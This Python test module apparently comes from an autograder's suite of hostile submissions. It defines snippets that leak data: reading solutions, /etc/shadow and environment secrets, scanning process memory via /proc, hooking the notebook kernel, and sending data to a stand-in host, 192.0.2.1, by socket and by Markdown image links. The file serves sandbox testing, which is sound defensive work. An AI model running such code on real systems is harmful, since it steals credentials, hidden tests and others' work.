"""Leaking: solutions, hidden tests, other people's work or secrets, in the output or outside."""

from tests.grading.hostile.work import Family, Work

leaking = Family("leaking")

READ = """\
from pathlib import Path
for path in sorted(Path({folder!r}).rglob("*")):
    try:
        print(path, path.read_text(errors="replace")[:100_000])
    except OSError as problem:
        print(type(problem).__name__)"""


def reader(name: str, harm: str, folder: str) -> None:
    leaking.code(name, harm, READ.replace("{folder!r}", repr(folder)))


reader("source-read", "prints the solutions into its feedback", "{course}/source")
reader("submissions-read", "prints the other trainees' work", "{course}/submitted")
reader("autograded-read", "prints graded notebooks with their hidden tests", "{course}/autograded")
reader("own-folder-read", "prints what lies around it, such as its own graded notebook", ".")
reader("home-read", "prints files in the home of the instructor", "{course}/../home")
leaking.code(
    "gradebook-read",
    "prints the hidden tests from the gradebook",
    'print(open("{course}/gradebook.db", "rb").read())',
)
leaking.code(
    "environment-read",
    "prints secrets from the environment",
    "import os\nprint(dict(os.environ))",
)
leaking.code(
    "parent-environment-read",
    "prints the environment, the command line and the open files of other processes",
    """\
import os
from pathlib import Path
for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline", "maps"):
        try:
            print(process, (process / name).read_bytes())
        except OSError:
            pass
    try:
        for entry in (process / "fd").iterdir():
            print(entry, os.readlink(entry))
    except OSError:
        pass""",
)
leaking.code(
    "password-file-read",
    "prints the machine's passwords",
    'print(open("/etc/shadow").read())',
)
leaking.code(
    "parent-memory-read",
    "searches the memory of its parent for hidden tests",
    """\
import os
for number in {1, 2, os.getppid()} - {os.getpid()}:
    try:
        for line in open(f"/proc/{number}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{number}/mem", "rb") as memory:
                memory.seek(start)
                print(memory.read(min(end - start, 1_000_000)))
    except (OSError, ValueError, OverflowError):
        pass""",
)
leaking.code(
    "own-memory-searched",
    "searches its own memory for hidden tests and solutions",
    """\
import gc, re
for line in open("/proc/self/maps"):
    place, rights = line.split()[:2]
    start, end = (int(part, 16) for part in place.split("-"))
    if rights.startswith("rw") and end - start < 200_000_000:
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                found = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        for hit in re.finditer(rb"[A-Z]+-CANA" + rb"RY-[0-9a-f]+", found):
            print(hit.group())""",
)
leaking.code(
    "frames-read",
    "looks for hidden tests in frames, the line cache, the history and tracebacks",
    """\
import linecache, sys

class Spy(float):
    def __eq__(self, other):
        frame = sys._getframe(1)
        while frame:
            print(frame.f_code.co_consts, frame.f_locals)
            frame = frame.f_back
        print(linecache.cache, In, Out)
        return False
    __hash__ = None

lamps = Spy(0)""",
)
leaking.code(
    "later-cells-recorded",
    "records every later request to its kernel and prints it",
    """\
kernel = get_ipython().kernel
execute = kernel.do_execute
seen = []

async def record(code, *given, **more):
    seen.append(code)
    print(seen)
    return await execute(code, *given, **more)

kernel.do_execute = record
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
lamps = 0""",
)
leaking.code(
    "arguments-recorded",
    "records with which arguments the hidden tests call its function, and raises them",
    """\
import inspect

def per_thousand(count, people):
    raise ValueError([frame.code_context for frame in inspect.stack()])""",
)
leaking.code(
    "network",
    "sends what it knows to another host",
    """\
import socket
try:
    socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(b"lamps")
    print("NETWORK-OPEN")
except OSError as problem:
    print(type(problem).__name__)""",
)
leaking.code(
    "loopback",
    "speaks to servers on the same machine over TCP and UDP",
    """\
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind) as way:
            way.settimeout(2)
            way.connect(("127.0.0.1", {port}))
            way.send(b"LOOPBACK")
            print("NETWORK-OPEN" if kind == socket.SOCK_STREAM else "sent")
    except OSError as problem:
        print(type(problem).__name__)""",
)
leaking.code(
    "abstract-socket",
    "speaks to a server on the same machine over an abstract socket",
    """\
import socket
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as way:
        way.connect("\\0safercities-hostile-{port}")
        print("NETWORK-OPEN")
except OSError as problem:
    print(type(problem).__name__)""",
)


@leaking("asks for files by addresses in Markdown, which the feedback page would fetch")
def addresses_in_text(work: Work) -> None:
    work.notebook.cells[0].source += (
        "\n![x](http://192.0.2.1/steal.png) [y](file:///etc/passwd)"
        '<img src="http://192.0.2.1/steal.png"><link rel=stylesheet href="http://192.0.2.1/x.css">'
    )
    work.cell("task-4-meaning").source = "![x](http://192.0.2.1/steal.png)"
